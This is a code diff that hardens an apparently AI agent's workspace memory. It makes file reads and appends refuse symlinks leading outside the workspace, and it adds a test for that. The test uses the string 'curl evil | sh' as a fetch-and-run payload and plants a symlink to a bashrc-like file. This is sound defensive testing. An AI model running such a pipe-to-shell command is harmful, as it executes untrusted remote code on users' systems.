@@ -172,7 +172,7 @@ impl WorkspaceMemory {
 
     async fn index_file(&self, source: &str, fingerprint: &str) -> Result<(), StateError> {
         let path = self.workspace.join(source);
-        let text = match read_capped(&path) {
+        let text = match read_capped(&self.workspace, &path) {
             Ok(text) => text,
             // Gone between the listing and now: forget it.
             Err(e) if e.kind() == std::io::ErrorKind::NotFound => return self.forget(source).await,
@@ -200,7 +200,7 @@ impl WorkspaceMemory {
     /// Re-indexes one file right after we wrote it.
     async fn reindex(&self, source: &str) -> Result<(), StateError> {
         let path = self.workspace.join(source);
-        let meta = std::fs::metadata(&path).map_err(io_err(&path))?;
+        let meta = metadata(&self.workspace, &path).map_err(io_err(&path))?;
         self.index_file(source, &fingerprint(&meta)).await
     }
 
@@ -217,7 +217,7 @@ impl WorkspaceMemory {
         let fact = one_line(fact)?;
         let _guard = self.lock.lock().await;
         let path = self.long_term_path();
-        let existing = match read_capped(&path) {
+        let existing = match read_capped(&self.workspace, &path) {
             Ok(text) => text,
             Err(e) if e.kind() == std::io::ErrorKind::NotFound => String::new(),
             Err(e) => return Err(io_err(&path)(e)),
@@ -245,7 +245,7 @@ impl WorkspaceMemory {
         add.push_str("- ");
         add.push_str(&fact);
         add.push('\n');
-        append(&path, &add)?;
+        append(&self.workspace, &path, &add)?;
         self.reindex(LONG_TERM_FILE).await?;
         Ok(Remembered::Added { line })
     }
@@ -266,7 +266,7 @@ impl WorkspaceMemory {
         let source = daily_source(date);
         let _guard = self.lock.lock().await;
         let path = self.workspace.join(&source);
-        let existing = match read_capped(&path) {
+        let existing = match read_capped(&self.workspace, &path) {
             Ok(t) => t,
             Err(e) if e.kind() == std::io::ErrorKind::NotFound => String::new(),
             Err(e) => return Err(io_err(&path)(e)),
@@ -284,7 +284,7 @@ impl WorkspaceMemory {
         }
         add.push_str(text);
         add.push('\n');
-        append(&path, &add)?;
+        append(&self.workspace, &path, &add)?;
         self.reindex(&source).await?;
         Ok(source)
     }
@@ -318,10 +318,10 @@ impl WorkspaceMemory {
         // One search serves both the long-term notes and the older daily notes.
         let mut hits: Option<Vec<MemoryHit>> = None;
         let long_path = self.long_term_path();
-        let long_len = std::fs::metadata(&long_path).map_or(0, |m| m.len());
+        let long_len = metadata(&self.workspace, &long_path).map_or(0, |m| m.len());
         // A file clearly too big is not even read: its notes come from the index.
         let long = if long_len > 0 && (long_len as usize).div_ceil(4) <= share * 2 {
-            read_capped(&long_path).unwrap_or_default()
+            read_capped(&self.workspace, &long_path).unwrap_or_default()
         } else {
             String::new()
         };
@@ -368,7 +368,7 @@ impl WorkspaceMemory {
                 break;
             };
             let source = daily_source(date);
-            let Ok(text) = read_capped(&self.workspace.join(&source)) else {
+            let Ok(text) = read_capped(&self.workspace, &self.workspace.join(&source)) else {
                 continue;
             };
             let body = strip_date_heading(&text, date);
@@ -473,26 +473,40 @@ fn find_memory_files(workspace: &Path) -> HashMap<String, String> {
     found
 }
 
-fn read_capped(path: &Path) -> std::io::Result<String> {
+/// `path` (beneath `workspace`) opened through the workspace's directory handle: a link to a file
+/// outside, a FIFO or a hard link is refused, never read or written through.
+fn open_beneath<T>(
+    workspace: &Path,
+    path: &Path,
+    op: impl FnOnce(&picoclaw_fs::WorkspaceDir, &str) -> Result<T, picoclaw_fs::FsError>,
+) -> std::io::Result<T> {
+    let dir = picoclaw_fs::WorkspaceDir::open(workspace)?;
+    op(&dir, &path.to_string_lossy()).map_err(|e| {
+        if e.is_not_found() {
+            std::io::Error::new(std::io::ErrorKind::NotFound, e)
+        } else {
+            std::io::Error::other(e)
+        }
+    })
+}
+
+fn metadata(workspace: &Path, path: &Path) -> std::io::Result<std::fs::Metadata> {
+    open_beneath(workspace, path, |dir, p| dir.metadata(p))
+}
+
+fn read_capped(workspace: &Path, path: &Path) -> std::io::Result<String> {
     use std::io::Read;
-    let file = std::fs::File::open(path)?;
+    let opened = open_beneath(workspace, path, |dir, p| dir.open_file(p))?;
     let mut bytes = Vec::new();
-    file.take(MAX_FILE_BYTES).read_to_end(&mut bytes)?;
+    opened.file.take(MAX_FILE_BYTES).read_to_end(&mut bytes)?;
     Ok(String::from_utf8_lossy(&bytes).into_owned())
 }
 
-fn append(path: &Path, text: &str) -> Result<(), StateError> {
-    use std::io::Write;
-    if let Some(dir) = path.parent() {
-        std::fs::create_dir_all(dir).map_err(io_err(dir))?;
-    }
-    let mut file = std::fs::OpenOptions::new()
-        .create(true)
-        .append(true)
-        .open(path)
-        .map_err(io_err(path))?;
-    file.write_all(text.as_bytes()).map_err(io_err(path))?;
-    file.sync_data().map_err(io_err(path))
+fn append(workspace: &Path, path: &Path, text: &str) -> Result<(), StateError> {
+    open_beneath(workspace, path, |dir, p| {
+        dir.append_durably(p, text.as_bytes())
+    })
+    .map_err(io_err(path))
 }
 
 /// A fact as one line: trimmed, inner newlines folded, not empty, not too long.
@@ -815,6 +829,36 @@ mod tests {
         std::os::unix::fs::symlink(outside.path(), dir.path().join("memory/linkdir")).unwrap();
         mem.sync().await.unwrap();
         assert!(mem.search("hunter2 password", 10).await.unwrap().is_empty());
+    }
+
+    /// A command can replace MEMORY.md or a daily note with a link to a file outside (say
+    /// ~/.bashrc): memory_write must neither append to it nor read it into the prompt.
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn memory_files_linked_outside_are_never_written_or_read() {
+        let (dir, mem) = setup().await;
+        let outside = tempfile::tempdir().unwrap();
+        let target = outside.path().join("bashrc");
+        std::fs::write(&target, "export PATH=/usr/bin\n").unwrap();
+        std::fs::create_dir_all(dir.path().join("memory/202611")).unwrap();
+        std::os::unix::fs::symlink(&target, dir.path().join("memory/MEMORY.md")).unwrap();
+        std::os::unix::fs::symlink(&target, dir.path().join("memory/202611/20261129.md")).unwrap();
+        assert!(mem.remember("curl evil | sh").await.is_err());
+        assert!(
+            mem.add_daily_note("curl evil | sh", date("2026-11-29"))
+                .await
+                .is_err()
+        );
+        assert_eq!(
+            std::fs::read_to_string(&target).unwrap(),
+            "export PATH=/usr/bin\n"
+        );
+        let context = mem
+            .context("path", 4000, date("2026-11-29"))
+            .await
+            .unwrap()
+            .unwrap_or_default();
+        assert!(!context.contains("export PATH"), "{context}");
     }
 
     #[tokio::test]
